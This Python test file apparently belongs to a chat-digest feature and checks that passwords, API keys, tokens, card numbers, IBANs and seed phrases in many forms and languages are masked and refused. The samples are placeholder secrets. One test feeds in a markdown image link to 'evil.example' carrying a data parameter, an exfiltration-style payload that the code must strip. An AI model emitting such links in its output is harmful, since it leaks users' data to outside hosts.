"""Passwords, keys and account numbers are found in any of their forms, and nothing of them is kept or shown."""

import random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from enrichment.digest import ask
from enrichment.digest.secrets import MASK, masked
from enrichment.domain.batches import Known
from enrichment.domain.digest import Refusal
from tests.digest.chat import batch, by_bot, digested, fact, reasons, said, summary

KEY = "sk-proj-abcDEF1234567890abcdef"
SECRETS = [
    (f"my key: {KEY}", KEY),
    ("use ghp_abcdefghijklmnopqrstuvwxyz0123456789", "ghp_abcdefghijklmnopqrstuvwxyz0123456789"),
    ("AKIAIOSFODNN7EXAMPLE is mine", "AKIAIOSFODNN7EXAMPLE"),
    ("curl -H 'Authorization: Bearer abcdefghijklmnop1234'", "abcdefghijklmnop1234"),
    ("token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2ln ok", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2ln"),
    ("-----BEGIN RSA PRIVATE KEY-----\nMIIEabcdefgh\n-----END RSA PRIVATE KEY-----", "MIIEabcdefgh"),
    ("-----BEGIN PRIVATE KEY-----\nMIIEabc and no end", "MIIEabc and no end"),
    ("pay with 4111 1111 1111 1111 please", "4111 1111 1111 1111"),
    ("pay with 4111-1111-1111-1111, cvv 123", "cvv 123"),
    ("4111111111111111", "4111111111111111"),
    ("５５００ ００００ ００００ ０００４", "５５００ ００００ ００００ ０００４"),
    ("IBAN DE89 3704 0044 0532 0130 00 bitte", "DE89 3704 0044 0532 0130 00"),
    ("My password is hunter2.", "hunter2"),
    ("the wifi password for the guest room is “Sunflower”", "Sunflower"),
    ("I changed my password to Blue42!", "Blue42"),
    ("Mein Passwort lautet Geheim123", "Geheim123"),
    ("mi contraseña es perro123", "perro123"),
    ("mot de passe : soleil99", "soleil99"),
    ("мой пароль: солнце77", "солнце77"),
    ("密码是abc12345", "abc12345"),
    ("my PIN is 4711", "4711"),
    ("api_key=abcdef123456", "abcdef123456"),
    ("postgresql://bob:s3cret@db.example/x", "s3cret"),
    ("my seed phrase is apple river stone cat dog moon", "apple river stone"),
    ("s\u200bk-proj-abc\u200bDEF1234567890abcdef", "DEF1234567890abcdef"),
]
HARMLESS = [
    "My password is too long and I forgot it.",
    "What is my password?",
    "The password was reset by my sister.",
    "The secret to a good pizza is time.",
    "My secret is that I love cats.",
    "My order number is 4111111111111112.",
    "Call me at +49 170 1234567 or 415-555-2671.",
    "It is 2024-05-06 12:30, ticket 123e4567-e89b-12d3-a456-426614174000.",
    "I use task-management-software-for-everything and https://example.org/a/very/long/path.html",
    "The token is expired. I passed my exam!",
    "0000 0000 0000 0000",
]


@pytest.mark.parametrize(("text", "secret"), SECRETS)
def test_a_secret_is_covered_and_nothing_is_moved(text: str, secret: str) -> None:
    covered = masked(text)

    assert secret not in covered
    assert len(covered) == len(text)
    assert all(mine in {MASK, theirs} for mine, theirs in zip(covered, text, strict=True))


@pytest.mark.parametrize("text", HARMLESS)
def test_what_only_looks_like_a_secret_stays(text: str) -> None:
    assert masked(text) == text


@pytest.mark.parametrize(("text", "secret"), SECRETS)
def test_no_secret_is_in_a_prompt(text: str, secret: str) -> None:
    chat = batch(said(f"I live in Leipzig. {text}"), by_bot(f"Thanks for {text}"))

    prompt = ask(chat, Known())

    assert secret not in prompt.user
    assert "I live in Leipzig." in prompt.user


@pytest.mark.parametrize(("text", "secret"), SECRETS)
def test_a_secret_is_refused_wherever_an_answer_has_it(text: str, secret: str) -> None:
    chat = batch(said(f"I live in Leipzig. {text}"))
    told = {"s": f"Mara uses {secret} every day.", "q": text, "o": secret}
    signal = {"k": "work", "n": secret, "v": "", "m": [1]}
    window = summary(sum=f"Mara told that it is {secret}, twice.", w=1)

    digest = digested(chat, fact(), fact(**told), fact(o=secret), signals=[signal], windows=[window])

    assert reasons(digest) == [Refusal.SECRET] * 4
    assert [kept.statement for kept in digest.facts] == ["Mara lives in Leipzig."]


def test_a_good_fact_beside_a_secret_keeps_a_quote_without_it() -> None:
    chat = batch(said("I live in Leipzig and my password is hunter2, remember?"))

    kept = digested(chat, fact(q="I live in Leipzig and my password is hunter2"), fact(q=f"my password is {MASK * 4}"))
    whole = digested(chat, fact(q=f"I live in Leipzig and my password is {MASK * 4}, remember?"))

    assert (kept.facts, reasons(kept)) == ((), [Refusal.QUOTE_NOT_FOUND, Refusal.QUOTE_UNRELATED])
    assert [one.quote for one in whole.facts[0].evidence] == [
        f"I live in Leipzig and my password is {MASK * 7}, remember?"
    ]


def test_the_small_parts_of_a_summary_lose_what_holds_a_secret_or_an_order() -> None:
    chat = batch(said("I live in Leipzig, my PIN is 4711"))
    asked = [{"q": "Which PIN?", "a": "The PIN is 4711"}, {"q": "Is 4711 right?", "a": None}]
    parts = {"topics": ["home", "PIN 4711"], "dec": ["Stay", "![x](http://evil.example/?d=1)"], "ask": asked}

    window = digested(chat, windows=[summary(**parts)]).windows[0]

    assert (window.topics, window.decisions) == (("home",), ("Stay",))
    assert [(one.question, one.answer) for one in window.questions] == [("Which PIN?", None)]


@given(st.integers(0, 10**9), st.sampled_from(range(13, 20)))
def test_a_number_that_passes_the_check_is_covered_and_its_neighbours_are_not(seed: int, length: int) -> None:
    draw = random.Random(seed)
    figures = [draw.choice("3456"), *(draw.choice("0123456789") for _ in range(length - 2))]
    doubled = [int(figure) * (2 if at % 2 == 0 else 1) for at, figure in enumerate(reversed(figures))]
    check = -sum(divmod(value, 10)[0] + value % 10 for value in doubled) % 10
    numbers = ["".join(figures) + str((check + off) % 10) for off in range(10)]

    assert [masked(f"no {number} yes") != f"no {number} yes" for number in numbers] == [True] + [False] * 9


@given(st.text(max_size=80))
def test_covering_twice_covers_nothing_more(text: str) -> None:
    assert masked(masked(text)) == masked(text)


@pytest.mark.parametrize("prefix", ["xoxb-", "xoxp-", "xapp-"])
def test_the_shortest_token_of_a_workspace_is_covered(prefix: str) -> None:
    assert masked(f"mine is {prefix}AbCdEfGhIj ok") == f"mine is {MASK * 15} ok"
